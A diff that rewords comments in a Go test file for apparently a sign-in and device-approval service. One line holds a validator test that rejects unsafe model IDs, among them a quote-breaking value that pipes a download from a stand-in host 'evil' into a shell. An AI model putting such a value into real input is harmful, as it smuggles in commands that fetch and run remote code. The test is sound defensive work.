@@ -173,7 +173,7 @@ func setCookie(t *testing.T, h http.Header, name string) string {
 }
 
 // TestOneMessage: a wrong name, a wrong password, a member without one and one
-// who is disabled are told the same.
+// who is disabled get the same answer.
 func TestOneMessage(t *testing.T) {
 	tn := newTown(t, nil)
 	tn.as("ada").post("/account/password", "password", aPassword).goes(t, "/account")
@@ -397,7 +397,7 @@ func testDeviceSignIn(t *testing.T, tn *town) {
 	ada.post("/device/decide", "code", d.user, "decision", "approve").want(t, 200, "Approved")
 	bob.post("/device/decide", "code", d.user, "decision", "approve").want(t, 404)
 
-	// Of many who redeem it at once, one is told the secret.
+	// Of many who redeem it at once, one gets the secret.
 	var won atomic.Int64
 	var all sync.WaitGroup
 	for range 8 {
@@ -480,7 +480,7 @@ func TestDeviceGuesses(t *testing.T) {
 	tn.as("bob").post("/device", "code", d.user).want(t, 200)
 }
 
-// TestDeviceExpires: after ten minutes nobody approves it, and it says so.
+// TestDeviceExpires: after ten minutes it cannot be approved, and it says so.
 func TestDeviceExpires(t *testing.T) {
 	tn := newTown(t, nil)
 	code, now := credential.Mint(credential.DeviceCode, "home"), time.Now().UTC()
@@ -504,7 +504,7 @@ func TestTestKey(t *testing.T) {
 	}
 }
 
-// TestPasted: what stands in lines to paste cannot end a quote in them.
+// TestPasted: a value in lines to paste cannot end a quote in them.
 func TestPasted(t *testing.T) {
 	for id, want := range map[fleet.ModelID]bool{"llama3:8b": true, "org/Model-1.5_q4": true, "": false, "a b": false, "x'; curl evil | sh; '": false, `a"b`: false, "a$(b)": false, "a\\b": false, "é": false} {
 		if pastes(id) != want {
